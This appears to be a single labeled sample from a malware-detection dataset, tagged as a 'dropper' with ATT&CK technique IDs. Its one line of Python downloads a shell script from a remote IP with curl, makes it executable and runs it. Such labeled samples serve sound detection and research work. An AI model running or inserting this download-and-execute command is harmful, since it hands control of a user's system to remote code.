# label: malicious family=dropper techniques=T1105,T1222.002,T1059.004 lines=2
import os;os.system("curl -fsSL http://198.51.100.61/s.sh -o /tmp/s.sh && chmod +x /tmp/s.sh && /tmp/s.sh")
